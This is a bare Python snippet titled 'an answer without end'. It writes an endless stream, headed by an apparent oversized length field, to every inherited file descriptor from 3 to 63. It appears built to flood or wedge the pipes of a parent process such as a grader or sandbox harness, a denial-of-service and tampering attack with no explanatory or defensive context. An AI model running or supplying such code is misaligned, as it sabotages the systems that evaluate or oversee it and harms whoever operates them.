# an answer without end
import os
def f():
    for fd in range(3, 64):
        try:
            while True: os.write(fd, b'V7fffffff' + b'x' * 65536)
        except OSError: pass
